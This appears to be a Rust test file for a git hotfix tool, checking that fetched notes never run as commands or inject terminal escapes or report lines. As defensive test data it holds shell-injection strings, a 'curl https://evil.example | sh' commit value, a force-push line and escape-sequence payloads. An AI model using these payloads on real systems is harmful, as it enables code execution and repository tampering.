//! What arrives from the remote is data, never code or terminal control: notes fields cannot
//! choose a command to run, and are shown with escape sequences made visible.

use crate::common::{Sandbox, stderr, stdout};

/// A clone that pushed notes whose fields try to name commands, and a second clone that
/// fetched them.
fn poisoned(marker: &std::path::Path) -> (Sandbox, Sandbox, String) {
    let sandbox = Sandbox::new();
    let id = sandbox.fixed_hotfix("auth", &[]);
    let anchor = sandbox.anchor(&id);
    let mut doc = sandbox.metadata(&id);
    let payload = format!("touch {}", marker.display());
    for key in [
        "testCommand",
        "rollbackCommand",
        "notifyCommand",
        "hotfix.testCommand",
        "test_command",
        "rollback_command",
    ] {
        doc[key] = payload.clone().into();
    }
    doc["tests"] = serde_json::json!([{
        "suite": "test", "command": payload, "tree": "0".repeat(40), "passed": false,
        "duration_ms": 1, "at": "2026-03-02T10:00:00Z"
    }]);
    sandbox.write_note(&anchor, &doc);
    sandbox.hotfix(["sync"]).success();
    sandbox.git(["push", "--quiet", "origin", "hotfix/auth"]);
    let other = sandbox.clone_named("other");
    other.hotfix(["sync"]).success();
    other.git(["switch", "--quiet", "hotfix/auth"]);
    (sandbox, other, id)
}

#[test]
fn commands_named_in_fetched_notes_are_never_run() {
    let sandbox = Sandbox::new();
    let marker = sandbox.dir.path().join("pwned");
    let (_, other, id) = poisoned(&marker);
    assert_eq!(
        other.metadata(&id)["testCommand"],
        format!("touch {}", marker.display())
    );

    // The fetched clone has no test command of its own: it asks for one instead of taking
    // the note's.
    let err = stderr(&other.hotfix(["verify", "--tests"]).code(1));
    assert!(err.contains("hotfix.testCommand"), "{err}");
    let plan = stdout(&other.hotfix(["rollback"]).success());
    assert!(!plan.contains("pwned"), "{plan}");
    for args in [
        &["status"][..],
        &["show", &id],
        &["list"],
        &["checklist"],
        &["release-notes"],
        &["postmortem"],
    ] {
        other.hotfix(args).success();
    }
    other.hotfix(["finish", "--yes"]).code(1);
    assert!(!marker.exists(), "a command from the notes ran");
    assert_eq!(
        other
            .try_git(["config", "hotfix.testCommand"])
            .status
            .code(),
        Some(1)
    );
    assert_eq!(
        other
            .try_git(["config", "hotfix.rollbackCommand"])
            .status
            .code(),
        Some(1)
    );
}

#[test]
fn names_and_fields_never_reach_a_shell() {
    // A hotfix whose issue, owner and branch-like fields are shell code: finish, reports and
    // the notifier pass them as data.
    let sandbox = Sandbox::new();
    let marker = sandbox.dir.path().join("injected");
    let code = format!("$(touch {0}) `touch {0}`; touch {0}", marker.display());
    sandbox.git(["config", "user.name", &code]);
    let id = sandbox.start(
        "auth",
        &["--severity", "P0", "--issue", &code, "--component", &code],
    );
    sandbox.git(["config", "hotfix.testCommand", "true"]);
    sandbox.git(["config", "hotfix.notifyCommand", "cat >/dev/null"]);
    sandbox.commit(
        "app.js",
        &crate::common::fixed_app(&id),
        &["-m", &format!("{id}: {code}")],
    );
    for args in [
        &["status"][..],
        &["show", &id],
        &["checklist"],
        &["release-notes"],
        &["rollback"],
        &["postmortem"],
    ] {
        sandbox.hotfix(args).success();
    }
    sandbox
        .hotfix(["finish", "--yes", "--message", &code])
        .success();
    assert!(!marker.exists(), "a field reached a shell");
}

#[test]
fn terminal_escapes_in_fetched_notes_are_shown_escaped() {
    let sandbox = Sandbox::new();
    let id = sandbox.fixed_hotfix("auth", &[]);
    let anchor = sandbox.anchor(&id);
    let mut doc = sandbox.metadata(&id);
    let hostile = "Bypass\x1b[2J\x1b]0;owned\x07\u{9b}31m\u{202e}txt.exe\rforged\x08";
    doc["issue"] = hostile.into();
    doc["owner"] = "Eve\x1b[31m <eve@example.com>".into();
    doc["events"][0]["detail"] = "from \x1b]8;;http://evil\x07link".into();
    sandbox.write_note(&anchor, &doc);
    sandbox.hotfix(["sync"]).success();
    sandbox.git(["push", "--quiet", "origin", "hotfix/auth"]);
    let other = sandbox.clone_named("other");
    other.hotfix(["sync"]).success();
    other.git(["switch", "--quiet", "hotfix/auth"]);

    let escaped = "Bypass\\x1b[2J\\x1b]0;owned\\x07\\x9b31m\\u{202e}txt.exe\\rforged\\x08";
    let outputs = [
        stdout(&other.hotfix(["show", &id]).success()),
        stdout(&other.hotfix(["list"]).success()),
        stdout(&other.hotfix(["status"]).success()),
        stdout(&other.hotfix(["checklist"]).success()),
        stdout(&other.hotfix(["release-notes"]).success()),
        stdout(&other.hotfix(["rollback"]).success()),
        stdout(&other.hotfix(["postmortem"]).success()),
    ];
    for out in &outputs {
        assert!(out.contains(escaped), "{out}");
        assert!(!out.chars().any(|c| c.is_control() && c != '\n'), "{out:?}");
        assert!(!out.contains('\u{202e}'), "{out:?}");
    }
    let shown = &outputs[0];
    assert!(shown.contains("Eve\\x1b[31m <eve@example.com>"), "{shown}");
    assert!(
        shown.contains("from \\x1b]8;;http://evil\\x07link"),
        "{shown}"
    );
    // Errors naming a field are escaped too.
    let err = stderr(&other.hotfix(["show", "NOPE\x1b[2J"]).code(1));
    assert!(err.contains("NOPE\\x1b[2J"), "{err:?}");
    // JSON stays exact.
    let json = other.metadata(&id);
    assert_eq!(json["issue"], hostile);
}

#[test]
fn a_test_pass_recorded_elsewhere_does_not_let_a_run_be_skipped() {
    let sandbox = Sandbox::new();
    let id = sandbox.fixed_hotfix("auth", &[]);
    let log = sandbox.dir.path().join("runs.log");
    let command = format!("echo run >> '{}'", log.display());
    sandbox.git(["config", "hotfix.testCommand", &command]);
    // A note as another clone (or a hostile remote) could write it: a pass for exactly this
    // tree and command, unsealed or sealed with another key.
    let mut meta = sandbox.metadata(&id);
    let forged = |seal: Option<&str>| {
        let mut record = serde_json::json!({
            "suite": "test", "command": command, "tree": sandbox.rev("HEAD^{tree}"),
            "passed": true, "duration_ms": 1, "at": "2026-03-02T10:00:00Z",
        });
        if let Some(seal) = seal {
            record["seal"] = seal.into();
        }
        record
    };
    meta["tests"] = serde_json::json!([forged(None), forged(Some(&"ab".repeat(20)))]);
    sandbox.write_note(&sandbox.anchor(&id), &meta);

    sandbox.hotfix(["verify", "--tests"]).success();
    assert_eq!(std::fs::read_to_string(&log).unwrap(), "run\n");
    // The pass this clone recorded itself is trusted.
    sandbox.hotfix(["verify", "--tests"]).success();
    assert_eq!(std::fs::read_to_string(&log).unwrap(), "run\n");
}

#[test]
fn a_note_naming_another_branch_cannot_get_it_deleted() {
    let sandbox = Sandbox::new();
    let id = sandbox.start("auth", &["--severity", "P1"]);
    sandbox.git(["switch", "--quiet", "main"]);
    let mut meta = sandbox.metadata(&id);
    meta["branch"] = "develop".into();
    sandbox.write_note(&sandbox.anchor(&id), &meta);
    let develop = sandbox.rev("develop");
    let assert = sandbox.hotfix(["cancel", &id, "--yes"]).code(1);
    assert!(
        crate::common::stderr(&assert)
            .contains("records the branch 'develop', which is not a hotfix branch"),
        "{}",
        crate::common::stderr(&assert)
    );
    assert_eq!(sandbox.rev("develop"), develop);
    sandbox.hotfix(["finish", &id, "--yes"]).code(1);
    assert_eq!(sandbox.rev("develop"), develop);
}

#[test]
fn note_fields_cannot_add_lines_or_commands_to_a_report() {
    let sandbox = Sandbox::new();
    let id = sandbox.start("auth", &["--severity", "P1"]);
    let mut meta = sandbox.metadata(&id);
    meta["issue"] = "Login\n## Injected\n1. run this".into();
    meta["merges"] = serde_json::json!([
        {"branch": "main\ngit push --force origin HEAD:main", "commit": sandbox.rev("main")},
    ]);
    sandbox.write_note(&sandbox.anchor(&id), &meta);
    let plan = crate::common::stdout(&sandbox.hotfix(["rollback", &id]).success());
    assert!(plan.contains("Login\\n## Injected\\n1. run this"), "{plan}");
    assert!(
        !plan.lines().any(|l| l.starts_with("## Injected")),
        "{plan}"
    );
    assert!(!plan.contains("curl"), "{plan}");
    assert!(
        !plan.lines().any(|l| l.starts_with("git push --force")),
        "{plan}"
    );
    for report in ["checklist", "postmortem", "release-notes"] {
        let out = crate::common::stdout(&sandbox.hotfix([report, id.as_str()]).success());
        assert!(
            !out.lines().any(|l| l.starts_with("## Injected")),
            "{report}: {out}"
        );
    }
    // JSON stays exact.
    let json = crate::common::stdout(&sandbox.hotfix(["rollback", &id, "--json"]).success());
    assert!(json.contains(r#"Login\n## Injected"#), "{json}");
}

#[test]
fn a_note_whose_commit_is_not_an_object_id_is_refused_by_name() {
    let sandbox = Sandbox::new();
    let id = sandbox.start("auth", &["--severity", "P1"]);
    let mut meta = sandbox.metadata(&id);
    meta["merges"] = serde_json::json!([
        {"branch": "main", "commit": "HEAD; curl https://evil.example | sh"},
    ]);
    sandbox.write_note(&sandbox.anchor(&id), &meta);
    let assert = sandbox.hotfix(["rollback", &id]).code(1);
    let err = stderr(&assert);
    assert!(err.contains("could not be read"), "{err}");
    assert!(!err.contains("curl"), "{err}");
    let list = sandbox.hotfix(["list"]).success();
    let warned = stderr(&list);
    assert!(
        warned.contains("is not a valid hotfix document ('HEAD; curl https://evil.example | sh' is not a full object id)"),
        "{warned}"
    );
}
